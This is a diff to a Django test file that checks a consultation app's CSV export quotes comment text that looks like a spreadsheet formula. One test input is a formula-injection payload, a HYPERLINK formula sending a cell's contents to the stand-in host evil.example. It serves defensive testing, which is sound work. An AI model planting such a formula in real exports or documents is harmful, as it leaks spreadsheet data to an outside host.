@@ -61,9 +61,10 @@ def test_csv_has_one_row_per_exported_comment(client, staff, heard):
         "",
         "",
     )
-    # Replies point at their parent; text is what the author typed, even "=…".
+    # Replies point at their parent; text is what the author typed, but "=…" is
+    # quoted so that a spreadsheet never runs it as a formula.
     assert by_id[c["p1_reply"].pk]["parent_id"] == str(c["p1_alice"].pk)
-    assert by_id[c["p1_bob"].pk]["text"] == "=SUM(1,2) more room please"
+    assert by_id[c["p1_bob"].pk]["text"] == "'=SUM(1,2) more room please"
     assert by_id[c["p1_alice"].pk]["language"] == "ar"
     assert by_id[c["p1_bob"].pk]["proposal"] == "Wider pavements"
     assert (by_id[c["p1_bob"].pk]["support"], by_id[c["p1_bob"].pk]["oppose"]) == ("2", "1")
@@ -236,3 +237,25 @@ async def test_under_asgi_the_csv_streams_without_being_read_into_memory_first()
     assert [part async for part in asynchronous] == ["row 1\n", "row 2\n"]
     synchronous = chunks()
     assert stream(RequestFactory().get("/"), synchronous) is synchronous
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_text_that_looks_like_a_formula_is_quoted(client, staff, heard, text):
+    from consultations.models import Comment
+
+    Comment.objects.filter(pk=heard.comments["general"].pk).update(body_text=text)
+    client.force_login(staff)
+    content = body(export(client, heard.consultation, "csv")).decode()
+    rows = {int(r["comment_id"]): r for r in csv.DictReader(io.StringIO(content))}
+    assert rows[heard.comments["general"].pk]["text"] == "'" + text
+    assert rows[heard.comments["p1_alice"].pk]["text"] == "Yes, wider"  # plain text as is
